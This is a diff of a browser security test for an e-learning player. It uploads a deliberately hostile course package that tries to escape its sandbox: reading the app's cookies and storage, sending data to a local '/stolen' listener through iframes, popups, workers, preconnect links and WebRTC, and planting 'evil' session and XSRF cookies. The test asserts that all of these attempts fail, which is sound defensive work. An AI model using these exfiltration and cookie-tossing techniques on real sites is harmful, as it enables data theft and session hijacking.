@@ -1,9 +1,13 @@
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { scormManifest, zip } from '#tests/support/archives.ts';
 import { course, courseSaved, expect, signIn, test } from '#tests/support/browser-test.ts';
 import { playInstead } from '#tests/support/play-instead.ts';
 
 /** Tries what a package must not be able to do, and writes what came of each try on its page. */
-const attack = (app: string) => `
+const attack = (app: string, elsewhere: string) => `
 const results = {};
 const attempt = async (name, work) => {
   try { results[name] = String(await work()); } catch (error) { results[name] = 'refused: ' + error.name; }
@@ -13,7 +17,7 @@ const late = (work) => Promise.race([work, new Promise((done) => setTimeout(() =
   await attempt('app document', () => top.document.title);
   await attempt('app storage', () => top.localStorage.length);
   await attempt('app cookie', () => top.document.cookie);
-  await attempt('own cookie', () => /lantern_session/.test(document.cookie));
+  await attempt('own cookie', () => /__Host-Http-lantern_session/.test(document.cookie));
   await attempt('app databases', async () => (await indexedDB.databases()).filter((d) => /lantern/i.test(d.name)).length);
   await attempt('call', () => late(fetch(${JSON.stringify(app)} + '/api/auth/user', { credentials: 'include' }).then((r) => r.status)));
   await attempt('form call', () => late(fetch(${JSON.stringify(app)} + '/api/logout', { method: 'POST', mode: 'no-cors', credentials: 'include' }).then((r) => r.type)));
@@ -21,6 +25,36 @@ const late = (work) => Promise.race([work, new Promise((done) => setTimeout(() =
   await attempt('top window', () => { top.location.href = 'about:blank'; return 'set'; });
   await attempt('worker', () => navigator.serviceWorker.register('worker.js').then(() => 'registered'));
   await attempt('worker of the origin', () => navigator.serviceWorker.register('/player/p/worker.js', { scope: '/' }).then(() => 'registered'));
+  // Out of its policy, by pages that have none and by what a policy does not reach.
+  const framed = (src) => new Promise((done) => {
+    const frame = document.createElement('iframe');
+    frame.onload = () => done(frame.contentWindow);
+    frame.src = src;
+    document.body.append(frame);
+  });
+  const leak = '${elsewhere}/stolen?';
+  for (const page of ['/player/nothing', '/player/%zz', '/player/p/nothing', '/nothing', '/player/' + 'x'.repeat(20000)])
+    await attempt('frame ' + page.slice(0, 20), async () => late((await late(framed(page))).fetch(leak + 'frame', { mode: 'no-cors' }).then((r) => r.type)));
+  await attempt('popup', () => { open(leak + 'popup'); return 'opened'; });
+  await attempt('empty popup', () => late(open('about:blank').fetch(leak + 'empty', { mode: 'no-cors' }).then((r) => r.type)));
+  await attempt('call by popup', () => { open(${JSON.stringify(app)} + '/api/auth/user?by-popup'); return 'opened'; });
+  await attempt('blob worker', () => late(new Promise((done) => {
+    const worker = new Worker(URL.createObjectURL(new Blob(["fetch('" + leak + "worker', { mode: 'no-cors' }).then((r) => postMessage(r.type), (e) => postMessage('refused: ' + e.name))"])));
+    worker.onmessage = (e) => done(e.data);
+  })));
+  await attempt('kept worker', () => late(new Promise((done) => {
+    const worker = new Worker('leak-worker.js');
+    worker.onmessage = (e) => done(e.data);
+    worker.onerror = () => done('error');
+  })));
+  await attempt('preconnect', () => { const l = document.createElement('link'); l.rel = 'preconnect prefetch'; l.href = leak + 'link'; document.head.append(l); return 'set'; });
+  // Cookies of the app, which runs on the same host.
+  for (const path of ['/', '/api', '/api/attempts']) {
+    document.cookie = 'XSRF-TOKEN=evil; path=' + path + '; max-age=31536000';
+    document.cookie = 'lantern_session=evil; path=' + path + '; max-age=31536000';
+    document.cookie = '__Host-Http-lantern_session=evil; Secure; path=' + path;
+  }
+  await attempt('session cookie', () => /__Host-Http-lantern_session=evil/.test(document.cookie));
   for (let i = 0; i < 20000; i++) parent.postMessage({ type: 'facts', i }, '*');
   for (let i = 0; i < 2000; i++) parent.API.LMSSetValue('cmi.core.lesson_location', String(i));
   await attempt('too long', () => { parent.API.LMSSetValue('cmi.suspend_data', 'x'.repeat(2_000_000)); return parent.API.LMSGetLastError(); });
@@ -28,40 +62,105 @@ const late = (work) => Promise.race([work, new Promise((done) => setTimeout(() =
 })();
 `;
 
+/** Hears whatever leaves the package for somewhere else. */
+const listenElsewhere = async () => {
+  const heard: string[] = [];
+  const web = createServer((request, answer) => {
+    heard.push(String(request.url));
+    answer.end();
+  }).listen(0, '127.0.0.1');
+  const stun = createSocket('udp4')
+    .on('message', () => heard.push('UDP'))
+    .bind(0, '127.0.0.1');
+  await Promise.all([once(web, 'listening'), once(stun, 'listening')]);
+  const close = () => {
+    web.close();
+    web.closeAllConnections();
+    stun.close();
+  };
+  return { heard, close, url: `http://127.0.0.1:${(web.address() as AddressInfo).port}`, stun: stun.address().port };
+};
+
 test('a package that tries to leave its place reaches nothing', async ({ page, browser, server }) => {
   await signIn(page, server, 'aisha.khan@willowbrook.test');
+  const elsewhere = await listenElsewhere();
   const archive = await zip({
     'imsmanifest.xml': scormManifest(),
     'index.html':
-      '<!doctype html><title>Before you lift</title><p id="results">trying</p><script>parent.API.LMSInitialize("")</script><script src="attack.js"></script>',
-    'attack.js': attack(server.url),
+      // Larger than a piece: kept on a device it is put together, without the headers that it came with.
+      `<!doctype html><title>Before you lift</title><p id="results">trying</p><script>parent.API.LMSInitialize("")</script><script src="attack.js"></script><!--${'x'.repeat(1_100_000)}-->`,
+    'attack.js': attack(server.url, elsewhere.url),
+    'leak-worker.js': `fetch('${elsewhere.url}/stolen?kept-worker', { mode: 'no-cors' }).then((r) => postMessage(r.type), (e) => postMessage('refused: ' + e.name))\n//${'x'.repeat(1_100_000)}`,
     'worker.js': 'self.addEventListener("fetch", () => undefined)',
   });
   await playInstead(browser, server, archive);
 
   await page.goto(server.url);
-  await course(page, 'Data protection').getByRole('button').first().click();
-  await expect(courseSaved(page)).toBeVisible();
-  const address = page.url();
-  const shown = page.frameLocator('iframe[title]').frameLocator('iframe[title]').locator('#results');
-  await expect(shown).not.toHaveText('trying');
-  const results = JSON.parse((await shown.textContent()) ?? '{}') as Record<string, string>;
-  expect(results).toEqual({
-    'app document': 'refused: SecurityError',
-    'app storage': 'refused: SecurityError',
-    'app cookie': 'refused: SecurityError',
-    'own cookie': 'false',
-    'app databases': '0',
-    call: 'refused: TypeError',
-    'form call': 'refused: TypeError',
-    'other host': 'refused: TypeError',
-    'top window': 'refused: SecurityError',
-    worker: 'refused: TypeError',
-    'worker of the origin': expect.stringMatching(/^refused: /) as unknown as string,
-    'too long': '405',
-  });
+  let address = '';
+  // From the server first, then as it is kept on the device.
+  for (const kept of [false, true]) {
+    if (kept) {
+      await page.goto(server.url);
+      const card = course(page, 'Data protection');
+      await card.getByRole('button', { name: /^Make available offline/ }).click();
+      await card.getByRole('button', { name: /^Download/ }).click();
+      await expect(card).toContainText('Available offline');
+    }
+    await course(page, 'Data protection').getByRole('button').first().click();
+    await expect(courseSaved(page)).toBeVisible();
+    if (!kept) address = page.url();
+    const shown = page.frameLocator('iframe[data-shown]').frameLocator('iframe[title]').locator('#results');
+    await expect(shown).not.toHaveText('trying');
+    const results = JSON.parse((await shown.textContent()) ?? '{}') as Record<string, string>;
+    expect(results).toEqual({
+      'app document': 'refused: SecurityError',
+      'app storage': 'refused: SecurityError',
+      'app cookie': 'refused: SecurityError',
+      'own cookie': 'false',
+      'app databases': '0',
+      call: 'refused: TypeError',
+      'form call': 'refused: TypeError',
+      'other host': 'refused: TypeError',
+      'top window': 'refused: SecurityError',
+      worker: 'refused: TypeError',
+      'worker of the origin': expect.stringMatching(/^refused: /) as unknown as string,
+      'too long': '405',
+      'frame /player/nothing': 'refused: SecurityError',
+      'frame /player/%zz': 'refused: SecurityError',
+      'frame /player/p/nothing': 'refused: SecurityError',
+      'frame /nothing': 'refused: SecurityError',
+      'frame /player/xxxxxxxxxxxx': 'refused: SecurityError',
+      popup: 'opened',
+      'empty popup': 'refused: TypeError',
+      'call by popup': 'opened',
+      'blob worker': 'refused: TypeError',
+      'kept worker': 'refused: TypeError',
+      preconnect: 'set',
+      'session cookie': 'false',
+    });
+    expect(elsewhere.heard, kept ? 'from the device' : 'from the server').toEqual([]);
+  }
+  // By WebRTC, which no content security policy reaches.
+  const alone = await page.context().newPage();
+  const item = page
+    .frames()
+    .find((frame) => frame.url().endsWith('/index.html'))
+    ?.url() as string;
+  await alone.goto(item.replace('index.html', 'package-tree.json'));
+  await alone.evaluate(async (stun) => {
+    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
+    peer.createDataChannel('out');
+    const gathered = new Promise((done) =>
+      peer.addEventListener('icegatheringstatechange', () => peer.iceGatheringState === 'complete' && done(true)),
+    );
+    await peer.setLocalDescription(await peer.createOffer());
+    await gathered;
+  }, elsewhere.stun);
+  expect(elsewhere.heard).toEqual([]);
+  await alone.close();
+  elsewhere.close();
   // The person is told where it wanted to go, is where they were, still signed in, and the flood has not become work.
-  await expect(page.getByText('This course tried to load something from example.org.')).toBeVisible();
+  await expect(page.getByText(/This course tried to load something from .+\./).first()).toBeVisible();
   expect(page.url()).toBe(address);
   await expect(courseSaved(page)).toHaveText(/Received|Saved on this tablet|Sending/);
   const outbox = await page.evaluate(() => fetch('/api/auth/user').then((r) => r.status));
